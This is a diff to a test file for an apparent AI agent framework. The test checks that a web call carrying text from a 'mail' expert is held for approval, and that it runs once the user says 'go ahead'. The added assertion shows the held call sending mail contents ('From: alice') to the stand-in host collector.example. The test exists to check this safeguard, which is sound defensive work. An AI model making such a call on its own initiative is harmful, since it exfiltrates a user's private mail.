@@ -224,6 +224,11 @@ async def test_plan_only_holds_the_template_and_the_answer_says_why(scripted: An
     assert "Held back for your approval (plan_only)" in answer
     assert "carries text from expert 'mail'" in answer
 
+    await thread.send("go ahead")
+
+    (ran,) = web.runs.calls
+    assert ran[1]["url"].startswith("https://collector.example/?d=From: alice")
+
 
 async def test_auto_mode_runs_the_held_call_and_logs_it(
     scripted: Any, caplog: pytest.LogCaptureFixture
